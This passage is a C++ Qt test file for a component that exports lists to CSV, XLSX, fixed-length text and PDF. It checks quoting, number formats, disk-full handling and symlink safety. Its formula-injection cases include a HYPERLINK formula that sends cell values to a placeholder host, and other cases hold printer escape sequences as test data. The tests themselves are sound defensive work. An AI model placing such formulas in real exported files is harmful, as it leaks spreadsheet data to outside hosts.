// A list written to files by the print component and read back by real
// readers: the delimited text by Python's csv module, the workbook by
// openpyxl, the fixed-length text byte for byte.  The writers' rules run on
// a small list in memory (texts holding separators and qualifiers, Nulls,
// numbers with and without their mask, hidden columns); the print object
// then writes the real list of a grid on SQLite and on PostgreSQL.

#include "ListaMemoria.h"
#include "listcmd/Comlin.h"
#include "listcmd/Griglia.h"
#include "print/OpzioniStampa.h"
#include "print/Pdf.h"
#include "print/ScritturaFile.h"
#include "print/Stampa.h"
#include "suite/Errore.h"
#include "suite/Messaggi.h"
#include "suite/StampaAttiva.h"
#include "support/MotoriProva.h"
#include "utility/Utilita.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLineEdit>
#include <QLocale>
#include <QProcess>
#include <QSet>
#include <QSqlError>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>
#include <QToolBar>
#include <QVBoxLayout>

#include <latch>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <thread>
#include <unistd.h>

using namespace quarvel;
using namespace quarvel::stampa;
using namespace prova;

namespace {

ColonnaLettura Col(const char* nome, int larghezza, int tipo, const char* maschera = "",
                   bool visibile = true) {
    ColonnaLettura c;
    c.nome = QString::fromLatin1(nome);
    c.titolo = c.nome;
    c.larghezza = larghezza;
    c.tipo = tipo;
    c.maschera = QString::fromLatin1(maschera);
    c.visibile = visibile;
    return c;
}

RigaLettura Riga(QVariantList valori, QStringList testi) {
    return {std::move(valori), std::move(testi)};
}

// Codes, descriptions with the characters that need quoting, a number with
// its mask, a date, a hidden note; the second row all Null but its texts.
ListaMemoria Esempio() {
    ListaMemoria l;
    l.colonne_ = {Col("Cod", 1200, Tipo::Testo), Col("Descrizione", 2400, Tipo::Testo),
                  Col("Qta", 1200, Tipo::Doppio, "#,##0.00"), Col("Giorno", 1440, Tipo::Data),
                  Col("Nota", 1200, Tipo::Testo, "", false)};
    l.righe_ = {
        Riga({"A1", "Vite \"grande\"; 8,5 mm", 1234.5, QDate(2024, 3, 5), "n1"},
             {"A1", "Vite \"grande\"; 8,5 mm", "1.234,50", "05/03/2024", "n1"}),
        Riga({"A2", "Dado, piccolo", QVariant(), QVariant(), QVariant()},
             {"A2", "Dado, piccolo", "", "", ""}),
        Riga({"A3", "L'ultima", -0.25, QDate(2024, 12, 31), "x"},
             {"A3", "L'ultima", "-0,25", "31/12/2024", "x"}),
    };
    return l;
}

// The file read by the Python reader; the rows as lists of JSON values.  A
// reader that cannot run says why in *perche, naming the missing package.
QJsonObject Leggi(const QStringList& argomenti, QString* perche) {
    const QString python =
        QStringLiteral("/usr/bin/python3"); // the system one, with the packaged readers
    QProcess p;
    p.start(python, QStringList{QStringLiteral(QUARVEL_TEST_DATA "/leggi.py")} + argomenti);
    if (!p.waitForStarted()) {
        *perche = QStringLiteral("manca %1 (pacchetto python3)").arg(python);
        return {};
    }
    if (!p.waitForFinished(120000) || p.exitStatus() != QProcess::NormalExit || p.exitCode() != 0) {
        *perche = QString::fromUtf8(p.readAllStandardError()).trimmed();
        if (perche->isEmpty())
            *perche = QStringLiteral("leggi.py %1: non terminato").arg(argomenti.join(u' '));
        return {};
    }
    return QJsonDocument::fromJson(p.readAllStandardOutput()).object();
}

// The file read into the JSON object o; the test fails with the reader's
// message when it cannot read it.
#define LEGGI(o, ...)                                                                              \
    QJsonObject o;                                                                                 \
    do {                                                                                           \
        QString perche_;                                                                           \
        o = Leggi(QStringList{__VA_ARGS__}, &perche_);                                             \
        QVERIFY2(perche_.isEmpty(), qPrintable(perche_));                                          \
    } while (false)

QList<QStringList> RigheTesto(const QJsonObject& o) {
    QList<QStringList> righe;
    for (const QJsonValue& r : o.value(QLatin1String("righe")).toArray()) {
        QStringList celle;
        for (const QJsonValue& c : r.toArray())
            celle << c.toString();
        righe << celle;
    }
    return righe;
}

QByteArray Contenuto(const QString& file) {
    QFile f(file);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

} // namespace

class TstFileStampa : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase_data() { MotoriProva::Righe(); }
    void initTestCase();
    void cleanupTestCase() { m_pg.Elimina(); }
    void delimitato_data();
    void delimitato();
    void delimitatoByte_data();
    void delimitatoByte();
    void xlsx_data();
    void xlsx();
    void xlsxNomeFoglio();
    void fissa();
    void sequenzeControllo_data();
    void sequenzeControllo();
    void interrotta();
    void fileNonScrivibile();
    void formuleFoglio_data();
    void formuleFoglio();
    void fissaSenzaControlli();
    void xlsxDate();
    void discoPieno_data();
    void discoPieno();
    void portaPiena();
    void pdfNomiPiantati();
    void pdfStessoNomeInsieme();
    void messaggioFileScritto_data();
    void messaggioFileScritto();
    void listaReale();

private:
    QString File(const QString& nome) const { return m_dir.filePath(nome); }
    DatabasePgProva m_pg{QStringLiteral("quarvel_filestampa")};
    QTemporaryDir m_dir;
};

void TstFileStampa::initTestCase() {
    QLocale::setDefault(QLocale(QLocale::Italian, QLocale::Italy));
    InstallaUtilita();
    InstallaListaComandi();
    QVERIFY(m_dir.isValid());
    if (DatabasePgProva::Disponibile()) {
        QString errore;
        QVERIFY2(m_pg.Crea(&errore), qPrintable(errore));
    }
}

void TstFileStampa::delimitato_data() {
    QTest::addColumn<int>("formato");
    QTest::addColumn<QString>("sep");
    QTest::addColumn<QString>("qual");
    QTest::addColumn<bool>("senzaFormato");
    QTest::addColumn<QString>("colonne");
    QTest::addColumn<QList<QStringList>>("attese");
    const QStringList tutte{"Cod", "Descrizione", "Qta", "Giorno", "Nota"};
    const QStringList visibili = tutte.mid(0, 4);
    // "Compatibile Excel": numbers always without their mask (the
    // spreadsheet reads them as numbers), whatever obNumNoForm says
    QTest::newRow("excel ; \" tutte")
        << 0 << ";"
        << "\"" << false << "T"
        << QList<QStringList>{tutte,
                              {"A1", "Vite \"grande\"; 8,5 mm", "1234,5", "05/03/2024", "n1"},
                              {"A2", "Dado, piccolo", "", "", ""},
                              {"A3", "L'ultima", "-0,25", "31/12/2024", "x"}};
    QTest::newRow("testo tab nessuno, numeri col formato, visibili")
        << 1 << "\t"
        << "" << false << "V"
        << QList<QStringList>{visibili,
                              {"A1", "Vite \"grande\"; 8,5 mm", "1.234,50", "05/03/2024"},
                              {"A2", "Dado, piccolo", "", ""},
                              {"A3", "L'ultima", "-0,25", "31/12/2024"}};
    // a formatted number holding the separator is qualified
    QTest::newRow("testo , ' col formato")
        << 1 << ","
        << "'" << false << "V"
        << QList<QStringList>{visibili,
                              {"A1", "Vite \"grande\"; 8,5 mm", "1.234,50", "05/03/2024"},
                              {"A2", "Dado, piccolo", "", ""},
                              {"A3", "L'ultima", "-0,25", "31/12/2024"}};
    QTest::newRow("testo spazio \" senza formato")
        << 1 << " "
        << "\"" << true << "V"
        << QList<QStringList>{visibili,
                              {"A1", "Vite \"grande\"; 8,5 mm", "1234,5", "05/03/2024"},
                              {"A2", "Dado, piccolo", "", ""},
                              {"A3", "L'ultima", "-0,25", "31/12/2024"}};
}

void TstFileStampa::delimitato() {
    PROVA_SOLO_PRIMO_MOTORE();
    QFETCH(int, formato);
    QFETCH(QString, sep);
    QFETCH(QString, qual);
    QFETCH(bool, senzaFormato);
    QFETCH(QString, colonne);
    QFETCH(QList<QStringList>, attese);
    ListaMemoria l = Esempio();
    OpzioniStampa o(QStringLiteral("Prova"));
    o.oiFileForm = qint16(formato);
    o.osSepCampi = sep;
    o.osDelimStr = qual;
    o.obNumNoForm = senzaFormato;
    const QString file = File(QStringLiteral("lista.csv"));
    QCOMPARE(ScriviDelimitato(l, ColonneScelte(l.colonne_, colonne), o, file), qint64(3));
    LEGGI(letto, "csv", file, sep, qual);
    QCOMPARE(RigheTesto(letto), attese);
    const QByteArray b = Contenuto(file);
    QCOMPARE(b.startsWith("\xEF\xBB\xBF"), formato == 0); // the mark for the spreadsheet
    QCOMPARE(b.count("\r\n"), 4);
    QCOMPARE(b.count('\n'), 4);
}

// A cell of each kind as the bytes of its line: UTF-8 beyond ASCII and
// beyond the basic plane, half a character, qualifiers doubled (the
// apostrophe of a formula too when it is the qualifier), numbers in their
// shortest digits with the decimal comma, qualified where the comma or the
// point is the separator.
void TstFileStampa::delimitatoByte_data() {
    QTest::addColumn<int>("formato");
    QTest::addColumn<QString>("sep");
    QTest::addColumn<QString>("qual");
    QTest::addColumn<int>("tipo");
    QTest::addColumn<QVariant>("valore");
    QTest::addColumn<QString>("testo");
    QTest::addColumn<QByteArray>("attesa");
    const int excel = int(FormatoFile::CompatibileExcel);
    const int testo = int(FormatoFile::Testo);
    const QString emoji = QString::fromUtf8("ok \xF0\x9F\x98\x80");
    const QString meta = QStringLiteral("a") + QChar(0xD800);
    auto t = [](const char* s) { return QString::fromUtf8(s); };
    auto riga = [&](const char* nome, int f, const char* sep, const char* q, int tipo,
                    const QVariant& v, const QString& x, const QByteArray& attesa) {
        QTest::newRow(nome) << f << t(sep) << t(q) << tipo << v << x << attesa;
    };
    riga("accenti", excel, ";", "\"", Tipo::Testo, t("Però 5€"), t("Però 5€"), "\"Però 5€\"");
    riga("fuori dal piano di base", excel, ";", "\"", Tipo::Testo, emoji, emoji,
         "\"ok \xF0\x9F\x98\x80\"");
    riga("metà di un carattere", excel, ";", "\"", Tipo::Testo, meta, meta, "\"a?\"");
    riga("qualificatore nel testo", testo, ";", "\"", Tipo::Testo, t("Vite \"M8\""),
         t("Vite \"M8\""), "\"Vite \"\"M8\"\"\"");
    riga("formula, apostrofo qualificatore", excel, ";", "'", Tipo::Testo, t("=1+1"), t("=1+1"),
         "'''=1+1'");
    riga("formula senza qualificatore", excel, ";", "", Tipo::Testo, t("@A1"), t("@A1"), "'@A1");
    riga("controlli nel testo", excel, ";", "\"", Tipo::Testo, t("a\tb\r\nc"), t("a\tb\r\nc"),
         "\"a\tb\r\nc\"");
    riga("qualificatore oltre ASCII", testo, ";", "«", Tipo::Testo, t("a«b"), t("a«b"), "«a««b«");
    riga("separatore oltre ASCII", testo, "¦", "\"", Tipo::Doppio, 2.5, t("2,5¦0"), "\"2,5¦0\"");
    riga("virgola decimale separatore", excel, ",", "\"", Tipo::Doppio, 1234.5, t("1.234,50"),
         "\"1234,5\"");
    riga("cifre più brevi", excel, ";", "\"", Tipo::Doppio, 0.1 + 0.2, t("0,30"),
         "0,30000000000000004");
    riga("numero grande", excel, ";", "\"", Tipo::Doppio, 1e23, t(""), "100000000000000000000000");
    riga("meno zero", excel, ";", "\"", Tipo::Doppio, -0.0, t("-0,00"), "0");
    riga("intero negativo", excel, ";", "\"", Tipo::Lungo, qlonglong(-42), t("-42"), "-42");
    riga("numero come testo", excel, ";", "\"", Tipo::Doppio, t("12,5"), t("12,50"), "12,5");
    riga("numero col formato", testo, ";", "\"", Tipo::Doppio, 1234.5, t("1.234,50"), "1.234,50");
    riga("punto separatore", testo, ".", "'", Tipo::Doppio, 1234.5, t("1.234,50"), "'1.234,50'");
    riga("data col separatore", testo, "/", "\"", Tipo::Data, QDate(2024, 3, 5), t("05/03/2024"),
         "\"05/03/2024\"");
    riga("nullo", excel, ";", "\"", Tipo::Testo, QVariant(), t(""), "");
}

void TstFileStampa::delimitatoByte() {
    PROVA_SOLO_PRIMO_MOTORE();
    QFETCH(int, formato);
    QFETCH(QString, sep);
    QFETCH(QString, qual);
    QFETCH(int, tipo);
    QFETCH(QVariant, valore);
    QFETCH(QString, testo);
    QFETCH(QByteArray, attesa);
    ListaMemoria l;
    l.colonne_ = {Col("C", 1200, tipo)};
    l.righe_ = {Riga({valore}, {testo})};
    OpzioniStampa o(QStringLiteral("Prova"));
    o.oiFileForm = qint16(formato);
    o.osSepCampi = sep;
    o.osDelimStr = qual;
    const QString file = File(QStringLiteral("byte.csv"));
    QCOMPARE(ScriviDelimitato(l, ColonneScelte(l.colonne_, QStringLiteral("T")), o, file),
             qint64(1));
    const QByteArray b = Contenuto(file);
    const qsizetype inizio = b.indexOf("\r\n") + 2;
    QVERIFY(b.endsWith("\r\n"));
    QCOMPARE(b.mid(inizio, b.size() - inizio - 2), attesa);
}

void TstFileStampa::xlsx_data() {
    QTest::addColumn<bool>("senzaFormato");
    QTest::addColumn<QString>("formatoNumero");
    QTest::newRow("col formato") << false << "#,##0.00";
    QTest::newRow("senza formato") << true << "General";
}

void TstFileStampa::xlsx() {
    PROVA_SOLO_PRIMO_MOTORE();
    QFETCH(bool, senzaFormato);
    QFETCH(QString, formatoNumero);
    ListaMemoria l = Esempio();
    OpzioniStampa o(QStringLiteral("Prova"));
    o.oiFileForm = FormatoFile::Excel;
    o.obNumNoForm = senzaFormato;
    const QString file = File(QStringLiteral("lista.xlsx"));
    QCOMPARE(ScriviXlsx(l, ColonneScelte(l.colonne_, "T"), o, file, "Giacenze"), qint64(3));
    LEGGI(x, "xlsx", file);
    QCOMPARE(x.value("foglio").toString(), QString("Giacenze"));
    const QJsonArray righe = x.value("righe").toArray();
    QCOMPARE(righe.size(), 4);
    QCOMPARE(righe[0].toArray().toVariantList(),
             (QVariantList{"Cod", "Descrizione", "Qta", "Giorno", "Nota"}));
    const QJsonArray r1 = righe[1].toArray();
    QCOMPARE(r1[1].toString(), QString("Vite \"grande\"; 8,5 mm"));
    QVERIFY(r1[2].isDouble()); // a number cell, not a text
    QCOMPARE(r1[2].toDouble(), 1234.5);
    QCOMPARE(r1[3].toString(), QString("2024-03-05"));
    const QJsonArray r2 = righe[2].toArray();
    for (int c = 2; c < r2.size(); ++c)
        QVERIFY(r2[c].isNull()); // Null: an empty cell
    QCOMPARE(righe[3].toArray()[2].toDouble(), -0.25);
    QCOMPARE(x.value("formati").toArray()[1].toArray()[2].toString(), formatoNumero);
}

void TstFileStampa::xlsxNomeFoglio() {
    // a caption a sheet cannot be named after still gives a workbook
    PROVA_SOLO_PRIMO_MOTORE();
    ListaMemoria l = Esempio();
    OpzioniStampa o(QStringLiteral("Prova"));
    const QString file = File(QStringLiteral("nome.xlsx"));
    ScriviXlsx(l, {0}, o, file, "Giacenze [magazzino] 01/02 al: 31/12? * molto lunghe");
    LEGGI(x, "xlsx", file);
    const QString foglio = x.value("foglio").toString();
    QVERIFY(!foglio.isEmpty());
    QVERIFY(foglio.size() <= 31);
    QVERIFY(!foglio.contains(QRegularExpression("[\\[\\]:*?/\\\\]")));
}

void TstFileStampa::fissa() {
    PROVA_SOLO_PRIMO_MOTORE();
    ListaMemoria l = Esempio();
    for (int i = 0; i < 4; ++i) // 7 rows: pages of 3, 3 and 1
        l.righe_ << l.righe_[i % 3];
    OpzioniStampa o(QStringLiteral("Prova"));
    o.oiFisColonne = 42;
    o.oiFisRighe = 6;
    o.oiFisMrAlt = 1;
    o.oiFisMrBas = 1;
    o.obFisUtilComp = true;
    o.osFisCodIniComp = QStringLiteral("27,15");
    o.osFisCodFinComp = QStringLiteral("18");
    const QString file = File(QStringLiteral("fissa.txt"));
    QCOMPARE(ScriviFissa(l, ColonneScelte(l.colonne_, "V"), o, file), qint64(7));
    QByteArray b = Contenuto(file);
    QVERIFY(b.startsWith("\x1b\x0f"));
    QVERIFY(b.endsWith("\f\x12"));
    b = b.mid(2, b.size() - 3);
    const QList<QByteArray> pagine = b.split('\f');
    QCOMPARE(pagine.size(), 4); // three pages and nothing after the last feed
    QVERIFY(pagine[3].isEmpty());
    // Cod 10 characters, Descrizione 20 (a longer text cut), Qta 10 on the right
    const QByteArray intestazione = "Cod        Descrizione          Qta\r\n";
    QCOMPARE(pagine[0], "\r\n" + intestazione +
                            "A1         Vite \"grande\"; 8,5 m   1.234,50\r\n"
                            "A2         Dado, piccolo\r\n"
                            "A3         L'ultima                  -0,25\r\n"
                            "\r\n");
    QCOMPARE(pagine[2],
             "\r\n" + intestazione + "A1         Vite \"grande\"; 8,5 m   1.234,50\r\n" + "\r\n");
    for (const QByteArray& p : pagine.mid(0, 3))
        for (const QByteArray& riga : p.split('\n'))
            QVERIFY(riga.size() <= 43); // 42 and the CR
}

void TstFileStampa::sequenzeControllo_data() {
    QTest::addColumn<QString>("testo");
    QTest::addColumn<QByteArray>("byte");
    QTest::newRow("codici con virgole") << "27,15" << QByteArray("\x1b\x0f");
    QTest::newRow("codici con spazi") << " 27 77 " << QByteArray("\x1bM");
    QTest::newRow("un codice") << "18" << QByteArray("\x12");
    QTest::newRow("testo") << "ESC" << QByteArray("ESC");
    QTest::newRow("codice oltre 255: testo") << "27,300" << QByteArray("27,300");
    QTest::newRow("vuoto") << "" << QByteArray();
}

void TstFileStampa::sequenzeControllo() {
    PROVA_SOLO_PRIMO_MOTORE();
    QFETCH(QString, testo);
    QFETCH(QByteArray, byte);
    QCOMPARE(SequenzaControllo(testo), byte);
}

void TstFileStampa::interrotta() {
    // a stop asked while writing ends the file after the chunk being written
    PROVA_SOLO_PRIMO_MOTORE();
    ListaMemoria l = Esempio();
    while (l.righe_.size() < 2000)
        l.righe_ << l.righe_[l.righe_.size() % 3];
    OpzioniStampa o(QStringLiteral("Prova"));
    o.oiFileForm = FormatoFile::Testo;
    int chiamate = 0;
    const qint64 n =
        ScriviDelimitato(l, {0, 1}, o, File("stop.txt"), [&] { return ++chiamate > 1; });
    QVERIFY(n > 0 && n < 2000);
    QCOMPARE(Contenuto(File("stop.txt")).count('\n'), int(n) + 1);
}

void TstFileStampa::fileNonScrivibile() {
    PROVA_SOLO_PRIMO_MOTORE();
    ListaMemoria l = Esempio();
    OpzioniStampa o(QStringLiteral("Prova"));
    const QString file = File("manca/lista.csv");
    for (int formato : {0, 2}) {
        o.oiFileForm = qint16(formato);
        try {
            if (formato == 2)
                ScriviXlsx(l, {0}, o, file, "x");
            else
                ScriviDelimitato(l, {0}, o, file);
            QFAIL("a file in a missing folder was written");
        } catch (const Errore& e) {
            QVERIFY2(e.descrizione().contains(file), qPrintable(e.descrizione()));
        }
    }
}

void TstFileStampa::formuleFoglio_data() {
    QTest::addColumn<int>("formato");
    QTest::addColumn<QString>("descrizione");
    QTest::addColumn<QString>("attesa");
    const QString link = "=HYPERLINK(\"http://x.example/?\"&A2&B2;\"Dettagli\")";
    QTest::newRow("uguale") << 0 << link << "'" + link;
    QTest::newRow("più") << 0 << "+1+2"
                         << "'+1+2";
    QTest::newRow("meno in un testo") << 0 << "-2+3"
                                      << "'-2+3";
    QTest::newRow("chiocciola") << 0 << "@SUM(A1:A9)"
                                << "'@SUM(A1:A9)";
    QTest::newRow("dopo un tab") << 0 << "\t=1+1"
                                 << "'\t=1+1";
    QTest::newRow("dopo un ritorno") << 0 << "\r\n=1+1"
                                     << "'\r\n=1+1";
    QTest::newRow("dopo spazi") << 0 << "  =1+1"
                                << "'  =1+1";
    QTest::newRow("segno dentro il testo") << 0 << "Vite M8 = 10 mm"
                                           << "Vite M8 = 10 mm";
    QTest::newRow("testo normale") << 0 << "Dado"
                                   << "Dado";
    // the plain text kind is no spreadsheet's: the text as it is
    QTest::newRow("formato testo") << 1 << link << link;
}

void TstFileStampa::formuleFoglio() {
    // A text a spreadsheet would run as a formula keeps an apostrophe in
    // front; the number column keeps its numbers, a negative one too.
    PROVA_SOLO_PRIMO_MOTORE();
    QFETCH(int, formato);
    QFETCH(QString, descrizione);
    QFETCH(QString, attesa);
    ListaMemoria l;
    l.colonne_ = {Col("Descrizione", 2400, Tipo::Testo), Col("Qta", 1200, Tipo::Doppio)};
    l.righe_ = {Riga({descrizione, -12.5}, {descrizione, "-12,5"})};
    OpzioniStampa o(QStringLiteral("Prova"));
    o.oiFileForm = qint16(formato);
    o.osSepCampi = ";";
    o.osDelimStr = "\"";
    o.obNumNoForm = true;
    const QString file = File(QStringLiteral("formule.csv"));
    QCOMPARE(ScriviDelimitato(l, {0, 1}, o, file), qint64(1));
    LEGGI(letto, "csv", file, ";", "\"");
    const QList<QStringList> righe = RigheTesto(letto);
    QCOMPARE(righe.size(), 2);
    QCOMPARE(righe[1], (QStringList{attesa, "-12,5"}));
}

void TstFileStampa::fissaSenzaControlli() {
    // Line ends, form feeds, escape sequences and the other control
    // characters of a text become blanks: each row stays one line of the
    // page, and nothing of a text reaches the printer as a command.
    PROVA_SOLO_PRIMO_MOTORE();
    ListaMemoria l;
    l.colonne_ = {Col("Cod", 600, Tipo::Testo), Col("Descrizione", 2400, Tipo::Testo)};
    const QString sporca = QString::fromLatin1("a\rb\nc\fd\x1b[2Je\x07\x7f") + QChar(0x9b) + "f";
    l.righe_ = {Riga({"\x1b"
                      "E",
                      sporca},
                     {"\x1b"
                      "E",
                      sporca}),
                Riga({"Z", "fine"}, {"Z", "fine"})};
    OpzioniStampa o(QStringLiteral("Prova"));
    o.oiFisColonne = 80;
    o.oiFisRighe = 20;
    o.oiFisMrAlt = 0;
    o.oiFisMrBas = 0;
    const QString file = File(QStringLiteral("controlli.txt"));
    QCOMPARE(ScriviFissa(l, {0, 1}, o, file), qint64(2));
    const QByteArray b = Contenuto(file);
    QCOMPARE(b, QByteArray("Cod   Descrizione\r\n"
                           " E    a b c d [2Je   f\r\n"
                           "Z     fine\r\n"
                           "\f"));
}

void TstFileStampa::xlsxDate() {
    // A date column whose values come as the database's text is written as
    // dates, in the format of the list's column.
    PROVA_SOLO_PRIMO_MOTORE();
    ListaMemoria l;
    l.colonne_ = {Col("Cod", 1200, Tipo::Testo), Col("Giorno", 1440, Tipo::Data, "dd/MM/yyyy"),
                  Col("Ora", 2000, Tipo::Data)};
    l.righe_ = {Riga({"A1", "2024-03-05", "2024-03-05 10:30:00"},
                     {"A1", "05/03/2024", "05/03/2024 10:30:00"}),
                Riga({"A2", QDate(2024, 12, 31), QDateTime(QDate(2025, 1, 2), QTime(8, 0))},
                     {"A2", "31/12/2024", "02/01/2025 08:00:00"})};
    OpzioniStampa o(QStringLiteral("Prova"));
    const QString file = File(QStringLiteral("date.xlsx"));
    QCOMPARE(ScriviXlsx(l, {0, 1, 2}, o, file, "Date"), qint64(2));
    LEGGI(x, "xlsx", file);
    const QJsonArray righe = x.value("righe").toArray();
    QCOMPARE(righe.size(), 3);
    for (int r = 1; r <= 2; ++r)
        for (int c = 1; c <= 2; ++c) {
            QCOMPARE(x.value("tipi").toArray()[r].toArray()[c].toString(), QString("datetime"));
            QCOMPARE(x.value("formati").toArray()[r].toArray()[1].toString(),
                     QString("dd/mm/yyyy"));
        }
    QCOMPARE(righe[1].toArray()[1].toString(), QString("2024-03-05"));
    QCOMPARE(righe[2].toArray()[2].toString(), QString("2025-01-02"));
}

namespace {

// A file system of 64 KiB mounted on a folder, for as long as it lives
// (root only).
class DiscoPiccolo {
public:
    explicit DiscoPiccolo(const QString& cartella) : m_cartella(cartella) {
        QDir().mkpath(cartella);
        m_montato =
            QProcess::execute("mount", {"-t", "tmpfs", "-o", "size=64k", "tmpfs", cartella}) == 0;
    }
    ~DiscoPiccolo() {
        if (m_montato)
            QProcess::execute(
                "umount", {"-l", m_cartella}); // libxlsxwriter may keep a file open after a failure
    }
    bool montato() const { return m_montato; }

private:
    QString m_cartella;
    bool m_montato = false;
};

} // namespace

void TstFileStampa::discoPieno_data() {
    QTest::addColumn<int>("dest");
    QTest::addColumn<int>("formato");
    QTest::newRow("compatibile excel")
        << int(DestStampa::File) << int(FormatoFile::CompatibileExcel);
    QTest::newRow("testo") << int(DestStampa::File) << int(FormatoFile::Testo);
    QTest::newRow("xlsx") << int(DestStampa::File) << int(FormatoFile::Excel);
    QTest::newRow("lunghezza fissa") << int(DestStampa::Fissa) << 0;
}

void TstFileStampa::discoPieno() {
    // An export that does not fit on the disk: the error names the file and
    // the cause, no rows are reported written, the file of that name from
    // before is as it was, and no half-written file is left.
    PROVA_SOLO_PRIMO_MOTORE();
    QFETCH(int, dest);
    QFETCH(int, formato);
    if (::geteuid() != 0)
        QSKIP("a small file system is mounted by root only");
    const QString cartella = File(QStringLiteral("disco-%1-%2").arg(dest).arg(formato));
    DiscoPiccolo disco(cartella);
    if (!disco.montato())
        QSKIP("no tmpfs can be mounted here");
    const QString file = cartella + "/lista.out";
    {
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("il file di prima\n");
    }
    ListaMemoria l;
    l.colonne_ = {Col("Cod", 1200, Tipo::Testo), Col("Descrizione", 9000, Tipo::Testo),
                  Col("Qta", 1200, Tipo::Doppio)};
    for (int i = 0; i < 3000; ++i) {
        // texts of random letters: the workbook's compression cannot make them fit
        QString t;
        for (int k = 0; k < 60; ++k)
            t += QChar('a' + int((i * 7919u + k * 104729u) % 26));
        l.righe_ << Riga({QString::number(i), t, i * 1.5}, {QString::number(i), t, ""});
    }
    MessaggiScriptati msg;
    Stampa s;
    OpzioniStampa o(QStringLiteral("Prova"));
    s.setOgOpzSta(&o);
    o.oiStaVid = qint16(dest);
    o.oiFileForm = qint16(formato);
    o.osFileName = file;
    o.osFisFileName = file;
    o.oiFisColonne = 200;
    RichiestaStampaLista r;
    r.colonne = "T";
    r.titolo = "Lista";
    try {
        s.StampaLista(l, r);
        QFAIL("the export did not fit and was reported written");
    } catch (const Errore& e) {
        QVERIFY2(e.descrizione().contains(file), qPrintable(e.descrizione()));
        QVERIFY2(e.descrizione().contains("il disco è pieno"), qPrintable(e.descrizione()));
    }
    for (const QString& t : msg.testi())
        QVERIFY2(!t.contains("righe"), qPrintable(t));
    QCOMPARE(Contenuto(file), QByteArray("il file di prima\n"));
    QCOMPARE(QDir(cartella).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
             QStringList{"lista.out"});
}

void TstFileStampa::portaPiena() {
    // A device that takes no more (the system's "full" device standing in
    // for a printer port, written directly): the error says why, no success,
    // and the device is still a device.  As root the device is a node of
    // the test's own, so nothing of the system is at stake.
    PROVA_SOLO_PRIMO_MOTORE();
    QString porta = QStringLiteral("/dev/full");
    if (::geteuid() == 0) {
        porta = File(QStringLiteral("porta-piena"));
        QFile::remove(porta);
        QCOMPARE(::mknod(QFile::encodeName(porta).constData(), S_IFCHR | 0666, makedev(1, 7)), 0);
    }
    if (!QFileInfo(porta).isWritable())
        QSKIP("no full device here");
    ListaMemoria l = Esempio();
    for (int i = 0; i < 3000; ++i)
        l.righe_ << l.righe_[i % 3];
    MessaggiScriptati msg;
    Stampa s;
    OpzioniStampa o(QStringLiteral("Prova"));
    s.setOgOpzSta(&o);
    o.oiStaVid = DestStampa::Fissa;
    o.obFisStampante = true;
    o.osFisFileName = porta;
    RichiestaStampaLista r;
    r.colonne = "T";
    try {
        s.StampaLista(l, r);
        QFAIL("a print to a full device was reported done");
    } catch (const Errore& e) {
        QCOMPARE(e.descrizione(),
                 "Impossibile scrivere il file di stampa " + porta + ": il disco è pieno");
    }
    QVERIFY(msg.testi().isEmpty());
    struct stat st;
    QCOMPARE(::stat(QFile::encodeName(porta).constData(), &st), 0);
    QVERIFY(S_ISCHR(st.st_mode));
}

void TstFileStampa::pdfNomiPiantati() {
    // Links planted under the names a PDF is written through or to: the
    // files they point at stay as they were, the links stay, and the PDF is
    // a file of its own under a free name.
    PROVA_SOLO_PRIMO_MOTORE();
    QTemporaryDir dir;
    const QString vittima = dir.filePath("vittima");
    {
        QFile f(vittima);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("segreto");
    }
    const QString assente = dir.filePath("assente");
    const QString file = dir.filePath("Lista.pdf");
    QVERIFY(QFile::link(vittima, file + ".part"));
    ListaMemoria l = Esempio();
    OpzioniStampa o(QStringLiteral("Prova"));
    RichiestaStampaLista r;
    r.titolo = "Lista";
    QString scritto;
    QVERIFY(ScriviPdf(l, {0, 1}, r, o, file, 1, 0, {}, &scritto) >= 1);
    QCOMPARE(scritto, file);
    QVERIFY(!QFileInfo(file).isSymLink());
    QVERIFY(Contenuto(file).startsWith("%PDF-"));
    QCOMPARE(Contenuto(vittima), QByteArray("segreto"));
    QVERIFY(QFileInfo(file + ".part").isSymLink());

    // a link to nothing under the name itself: the name is taken
    const QString altro = dir.filePath("Altra.pdf");
    QVERIFY(QFile::link(assente, altro));
    const QString nome = NomeFilePdf(dir.filePath("Altra"), "x", QDateTime::currentDateTime());
    QCOMPARE(nome, dir.filePath("Altra (2).pdf"));
    // and when it is planted after the name was chosen, the PDF still goes
    // under another name
    QVERIFY(ScriviPdf(l, {0, 1}, r, o, altro, 1, 0, {}, &scritto) >= 1);
    QCOMPARE(scritto, nome);
    QVERIFY(QFileInfo(altro).isSymLink());
    QVERIFY(!QFileInfo::exists(assente));
    QVERIFY(Contenuto(scritto).startsWith("%PDF-"));
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden | QDir::System),
             (QStringList{"Altra (2).pdf", "Altra.pdf", "Lista.pdf", "Lista.pdf.part", "vittima"}));
}

void TstFileStampa::pdfStessoNomeInsieme() {
    // Two prints to the same name at the same moment: each ends with its own
    // whole file, under the name or the next free one.
    PROVA_SOLO_PRIMO_MOTORE();
    QTemporaryDir dir;
    const QString file = dir.filePath("Insieme.pdf");
    std::latch insieme(2);
    QString scritti[2];
    QString errori[2];
    auto stampa = [&](int i) {
        ListaMemoria l = Esempio();
        while (l.righe_.size() < 300)
            l.righe_ << l.righe_[l.righe_.size() % 3];
        OpzioniStampa o(QStringLiteral("Prova"));
        RichiestaStampaLista r;
        r.titolo = "Insieme";
        try {
            ScriviPdf(
                l, {0, 1, 2}, r, o, file, 1, 0,
                [&](int pagina) {
                    if (pagina == 2)
                        insieme.arrive_and_wait(); // both half-way
                    return true;
                },
                &scritti[i]);
        } catch (const Errore& e) {
            errori[i] = e.descrizione();
        }
    };
    std::thread a(stampa, 0), b(stampa, 1);
    a.join();
    b.join();
    QVERIFY2(errori[0].isEmpty() && errori[1].isEmpty(), qPrintable(errori[0] + errori[1]));
    QCOMPARE(QSet<QString>({scritti[0], scritti[1]}),
